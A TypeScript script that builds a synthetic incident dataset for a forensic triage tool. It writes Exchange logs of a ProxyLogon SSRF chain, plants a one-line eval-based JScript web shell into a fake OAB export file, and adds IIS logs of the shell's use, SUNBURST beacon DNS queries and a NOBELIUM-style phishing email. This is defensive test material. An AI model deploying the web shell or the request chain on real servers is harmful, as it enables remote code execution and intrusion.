/**
 * Regenerates examples/incident/: a small SYNTHETIC incident at a fictional credit union
 * (ecu.example), written in the documented native formats. Nothing in it is real traffic; the
 * SUNBURST beacon labels are the public, published decode vectors. Run: npm run example
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import {
  bindQueryLog,
  ecpServerLog,
  httpProxyLog,
  iisLog,
  mailMessage,
  oabGeneratorLog,
} from './lib/formats.ts';
import { makeZip } from './lib/zip.ts';

// An output folder may be given (the tests regenerate into a temporary one and compare).
const ROOT = process.argv[2] ?? join(import.meta.dirname, '..', 'examples', 'incident');
const put = (rel: string, data: string | Uint8Array) => {
  const p = join(ROOT, rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, data);
};
rmSync(ROOT, { recursive: true, force: true });

const SERVER = 'EX01';
const ATTACKER = '203.0.113.50';
const base = {
  MajorVersion: '15',
  MinorVersion: '1',
  BuildVersion: '2176',
  RevisionVersion: '2',
  ServerHostName: SERVER,
  ProxyAction: 'Proxy',
  RoutingType: 'IntraForest',
};
const guid = (i: number) => `4f1c${String(i).padStart(4, '0')}-2f6f-4a40-8129-ff80098494a0`;

// --- Exchange HttpProxy (ECP): routine health probes, then the ProxyLogon chain (exchange.md §2.3).
const health = (i: number, t: string) => ({
  ...base,
  DateTime: t,
  RequestId: guid(i),
  Protocol: 'Ecp',
  UrlHost: 'localhost',
  UrlStem: '/ecp/',
  AuthenticationType: 'Negotiate',
  IsAuthenticated: 'true',
  AuthenticatedUser: 'ECU\\HealthMailbox0a1b2c',
  AnchorMailbox: 'Sid~S-1-5-21-1004336348-1177238915-682003330-1142',
  UserAgent: 'AMProbe/Local/ClientAccess',
  ClientIpAddress: '127.0.0.1',
  HttpStatus: '200',
  BackEndStatus: '200',
  Method: 'GET',
  TargetServer: 'ex01.ecu.example',
  TargetServerVersion: '15.01.2176.002',
  RoutingHint: 'WindowsIdentity',
});
const ssrf = (i: number, t: string, ua: string, target: string, status: string) => ({
  ...base,
  DateTime: t,
  RequestId: guid(i),
  Protocol: 'Ecp',
  UrlHost: 'mail.ecu.example',
  UrlStem: '/ecp/y.js',
  AuthenticationType: 'Anonymous',
  IsAuthenticated: 'false',
  AuthenticatedUser: '',
  AnchorMailbox: `ServerInfo~a]@ex01.ecu.example:444/${target}#`,
  UserAgent: ua,
  ClientIpAddress: ATTACKER,
  HttpStatus: status,
  BackEndStatus: status,
  Method: 'POST',
  TargetServer: 'ex01.ecu.example',
  RoutingHint: 'X-BEResource-Cookie',
});
const canary = 'msExchEcpCanary=Wq3T0lIsmUKZ3mS1n6pJfQ0x';
put(
  'exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG',
  httpProxyLog(
    [
      health(1, '2021-03-03T06:00:05.344Z'),
      health(2, '2021-03-03T06:15:05.351Z'),
      ssrf(
        3,
        '2021-03-03T06:49:42.162Z',
        'ExchangeServicesClient/0.0.0.0',
        'autodiscover/autodiscover.xml?',
        '200',
      ),
      ssrf(4, '2021-03-03T06:49:43.699Z', 'python-requests/2.25.1', 'mapi/emsmdb/?', '200'),
      ssrf(5, '2021-03-03T06:49:46.210Z', 'python-requests/2.25.1', 'ecp/proxyLogon.ecp?', '241'),
      ssrf(
        6,
        '2021-03-03T06:49:51.543Z',
        'python-requests/2.25.1',
        `ecp/DDI/DDIService.svc/GetObject?${canary}&schema=OABVirtualDirectory`,
        '200',
      ),
      ssrf(
        7,
        '2021-03-03T06:59:18.042Z',
        'python-requests/2.25.1',
        `ecp/DDI/DDIService.svc/SetObject?${canary}&schema=OABVirtualDirectory`,
        '200',
      ),
      ssrf(
        8,
        '2021-03-03T06:59:20.359Z',
        'python-requests/2.25.1',
        `ecp/DDI/DDIService.svc/SetObject?${canary}&schema=ResetOABVirtualDirectory`,
        '200',
      ),
      health(9, '2021-03-03T06:30:05.362Z'),
    ],
    '2021-03-03T06:00:00.000Z',
    // As Exchange writes it: a plain CSV header line above the #Software … #Fields directives.
    { layout: 'exchange' },
  ),
);

// --- HttpProxy (OWA): a mass scanner's vulnerability check, and an attempt that only reached autodiscover.
put(
  'exchange/Logging/HttpProxy/Owa/HttpProxy_2021030215-1.LOG',
  httpProxyLog(
    [
      {
        ...base,
        DateTime: '2021-03-02T15:04:04.546Z',
        RequestId: guid(20),
        Protocol: 'Owa',
        UrlHost: 'mail.ecu.example',
        UrlStem: '/owa/auth/x.js',
        AuthenticationType: 'FBA',
        IsAuthenticated: 'false',
        AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?',
        UserAgent:
          'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36',
        ClientIpAddress: '192.0.2.77',
        HttpStatus: '500',
        BackEndStatus: '500',
        Method: 'GET',
        TargetServer: 'localhost',
        RoutingHint: 'X-AnonResource-Backend-Cookie',
      },
      {
        ...base,
        DateTime: '2021-03-02T21:17:31.020Z',
        RequestId: guid(21),
        Protocol: 'Owa',
        UrlHost: 'mail.ecu.example',
        UrlStem: '/owa/auth/w.js',
        AuthenticationType: 'Anonymous',
        IsAuthenticated: 'false',
        AnchorMailbox: 'ServerInfo~a]@ex01.ecu.example:444/autodiscover/autodiscover.xml?#',
        UserAgent: 'python-requests/2.25.1',
        ClientIpAddress: '198.51.100.9',
        HttpStatus: '200',
        BackEndStatus: '200',
        Method: 'POST',
        TargetServer: 'ex01.ecu.example',
        RoutingHint: 'X-BEResource-Cookie',
      },
      {
        ...base,
        DateTime: '2021-03-02T21:20:00.000Z',
        RequestId: guid(22),
        Protocol: 'Owa',
        UrlHost: 'mail.ecu.example',
        UrlStem: '/owa/',
        AuthenticationType: 'FBA',
        IsAuthenticated: 'true',
        AuthenticatedUser: 'jdoe@ecu.example',
        AnchorMailbox: 'Smtp~jdoe@ecu.example',
        UserAgent:
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36',
        ClientIpAddress: '10.20.1.15',
        HttpStatus: '200',
        BackEndStatus: '200',
        Method: 'GET',
        TargetServer: 'ex01.ecu.example',
        RoutingHint: 'Smtp-UserPrincipalName',
      },
    ],
    '2021-03-02T15:00:00.000Z',
    { layout: 'exchange' },
  ),
);

// --- ECP Server log: the web shell written into the OAB virtual directory (CVE-2021-27065).
const shell =
  '<script language="JScript" runat="server">function Page_Load(){eval(Request["ecu_k7"],"unsafe");}</script>';
put(
  'exchange/Logging/ECP/Server/ECPServer20210303-1.LOG',
  ecpServerLog(
    [
      {
        time: '2021-03-03T06:49:51.389Z',
        server: SERVER,
        data: 'S:TIME=18;S:SID=;S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject;S:EX=;S:BLD=15.1.2176.2',
      },
      {
        time: '2021-03-03T06:59:18.210Z',
        server: SERVER,
        data: `S:TIME=41;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${shell.replace(/'/g, "''")}'.Identity='6d1c2b8e-0f1d-4e43-a1a5-7d3f0f6c1a9e';S:EX=;S:BLD=15.1.2176.2`,
      },
      {
        time: '2021-03-03T06:59:20.500Z',
        server: SERVER,
        data: "S:TIME=212;S:CMD=Reset-OABVirtualDirectory.Identity='6d1c2b8e-0f1d-4e43-a1a5-7d3f0f6c1a9e'.FilePathName='\\\\ex01\\C$\\inetpub\\wwwroot\\aspnet_client\\system_web\\ecu.aspx';S:EX=;S:BLD=15.1.2176.2",
      },
    ],
    { layout: 'exchange' },
  ),
);

// --- OAB generator log: a routine failed download cleaned up in its own Temp folder. CISA's CHIRP
// string matches the line; the CVE-2021-26858 check judges it normal, and the report says so.
put(
  'exchange/Logging/OABGeneratorLog/OABGenerator_2021030301-1.LOG',
  oabGeneratorLog(
    [
      {
        time: '2021-03-03T01:00:12.118Z',
        level: 'Warning',
        message:
          "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\3f9a1c.tmp' needs to be removed",
      },
    ],
    { layout: 'exchange' },
  ),
);

// --- The file the reset wrote: the OAB configuration export with the shell in ExternalUrl.
put(
  'exchange/inetpub/wwwroot/aspnet_client/system_web/ecu.aspx',
  [
    'Name                            : OAB (Default Web Site)',
    'PollInterval                    : 480',
    'OfflineAddressBooks             :',
    'RequireSSL                      : False',
    'BasicAuthentication             : True',
    `ExternalUrl                     : http://f/${shell}`,
    'InternalUrl                     : https://ex01.ecu.example/OAB',
    'Server                          : EX01',
    '',
  ].join('\r\n'),
);

// --- IIS W3SVC1, zipped as responders receive it: normal use, then the shell being used.
const iis = iisLog([
  {
    date: '2021-03-03',
    time: '08:00:01',
    's-ip': '10.20.0.5',
    'cs-method': 'POST',
    'cs-uri-stem': '/owa/auth.owa',
    'cs-uri-query': '&CorrelationID=<empty>;&cafeReqId=0b7e3a52-1c1e-4c6f-9f0e-8b1d2c3a4f50;',
    's-port': '443',
    'cs-username': '-',
    'c-ip': '10.20.1.15',
    'cs(User-Agent)': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
    'cs(Referer)': 'https://mail.ecu.example/owa/auth/logon.aspx',
    'sc-status': '302',
    'sc-substatus': '0',
    'sc-win32-status': '0',
    'time-taken': '15',
  },
  {
    date: '2021-03-03',
    time: '07:12:44',
    's-ip': '10.20.0.5',
    'cs-method': 'POST',
    'cs-uri-stem': '/aspnet_client/system_web/ecu.aspx',
    'cs-uri-query': '&CorrelationID=<empty>;&cafeReqId=5d9a2e11-7b3c-4f0e-a6d2-3c4b5a697a81;',
    's-port': '443',
    'cs-username': '-',
    'c-ip': ATTACKER,
    'cs(User-Agent)': 'antSword/v2.1',
    'cs(Referer)': '-',
    'sc-status': '200',
    'sc-substatus': '0',
    'sc-win32-status': '0',
    'time-taken': '31',
  },
  {
    date: '2021-03-03',
    time: '07:13:02',
    's-ip': '10.20.0.5',
    'cs-method': 'POST',
    'cs-uri-stem': '/aspnet_client/system_web/ecu.aspx',
    'cs-uri-query': '&CorrelationID=<empty>;&cafeReqId=6e0b3f22-8c4d-4a1f-b7e3-4d5c6b7a8b92;',
    's-port': '443',
    'cs-username': '-',
    'c-ip': ATTACKER,
    'cs(User-Agent)': 'antSword/v2.1',
    'cs(Referer)': '-',
    'sc-status': '200',
    'sc-substatus': '0',
    'sc-win32-status': '0',
    'time-taken': '1204',
  },
]);
put('exchange/collected/W3SVC1-u_ex210303.zip', makeZip([{ name: 'W3SVC1/u_ex210303.log', data: iis }]));

// --- DNS: the Orion server's resolver log, with SUNBURST beacons (published Netresec vectors).
const dns = [
  { time: '2020-06-16T00:01:12Z', client: '10.20.0.31', name: 'crl.microsoft.com' },
  {
    time: '2020-06-16T00:03:40Z',
    client: '10.20.0.31',
    name: 'r1qshoj05ji05ac6eoip02jovt6i2v0c.appsync-api.us-west-2.avsvmcloud.com',
  },
  { time: '2020-06-16T00:05:02Z', client: '10.20.1.15', name: 'outlook.office365.com' },
  {
    time: '2020-06-16T00:17:55Z',
    client: '10.20.0.31',
    name: 'olc62cocacn7u2q22v02eu.appsync-api.us-west-2.avsvmcloud.com',
  },
  {
    time: '2020-06-16T02:41:09Z',
    client: '10.20.0.31',
    name: 'lt5ai41qh5d53qoti3mkmc0.appsync-api.us-west-2.avsvmcloud.com',
  },
  { time: '2020-06-16T03:00:00Z', client: '10.20.0.31', name: 'api.solarwinds.com' },
  {
    time: '2020-06-17T00:10:31Z',
    client: '10.20.0.31',
    name: 'q94idf4sjbem0rait7gv.appsync-api.us-west-2.avsvmcloud.com',
  },
];
put('dns/named-queries.log', bindQueryLog(dns));

// --- Mail: a NOBELIUM-style lure through a bulk-mail service with an ISO, and two ordinary messages.
const iso = Buffer.alloc(40 * 1024);
iso.write('CD001', 0x8001, 'latin1'); // ISO 9660 volume descriptor signature: a (harmless, empty) image
put(
  'mail/2021-05-25-special-alert.eml',
  mailMessage({
    headers: [
      'Received: from s1.ccsend.example (s1.ccsend.example [198.51.100.140]) by mx.ecu.example; Tue, 25 May 2021 14:02:11 +0000',
      'Reply-To: USAID <usaid@in.constantcontact.example>',
      'List-Unsubscribe: <https://visitor.constantcontact.example/do?p=un&m=001x>',
    ],
    from: 'USAID <usaid@usaid.example>',
    to: 'treasurer@ecu.example',
    subject: 'USAID Special Alert!',
    date: 'Tue, 25 May 2021 14:02:09 +0000',
    messageId: '<1234567890.usaid@ccsend.example>',
    text: 'Donald Trump has published new documents on election fraud. View the documents.\r\nhttps://r20.rs6.example/tn.jsp?f=001x&c=abc',
    attachments: [{ name: 'ICA-declass.iso', type: 'application/x-iso9660-image', data: iso }],
  }),
);
put(
  'mail/2021-05-20-board-minutes.eml',
  mailMessage({
    from: 'Dana Ortiz <dortiz@ecu.example>',
    to: 'board@ecu.example',
    subject: 'Minutes of the May board meeting',
    date: 'Thu, 20 May 2021 09:12:00 +0000',
    messageId: '<minutes-2021-05@ecu.example>',
    text: "Hello all,\r\n\r\nThe minutes of Tuesday's meeting are on the shared drive. Next meeting: 15 June.\r\n\r\nDana",
  }),
);
put(
  'mail/2021-05-24-newsletter.eml',
  mailMessage({
    headers: ['List-Unsubscribe: <mailto:unsubscribe@news.cuassoc.example>'],
    from: 'Credit Union Association <news@cuassoc.example>',
    to: 'info@ecu.example',
    subject: 'This week in member services',
    date: 'Mon, 24 May 2021 07:00:00 +0000',
    messageId: '<weekly-2021-21@news.cuassoc.example>',
    text: 'Webinar on Thursday: fraud trends in 2021. Register on our website.',
  }),
);

put(
  'README.md',
  `# Example incident (synthetic)

Everything in this folder is **synthetic**, generated by \`scripts/make-example.ts\`
(\`npm run example\`) in the documented native formats of each log. It describes a
fictional credit union, \`ecu.example\`, whose Exchange server EX01 was exploited through
ProxyLogon on 3 March 2021, whose Orion server beaconed to SUNBURST's C2 in June 2020, and
which received a NOBELIUM-style lure with an ISO attachment in May 2021. IP addresses are
documentation ranges; the SUNBURST beacon labels are public, published decode vectors.

Run \`npx vigil triage examples/incident\`.
`,
);
console.log(`wrote ${ROOT}`);
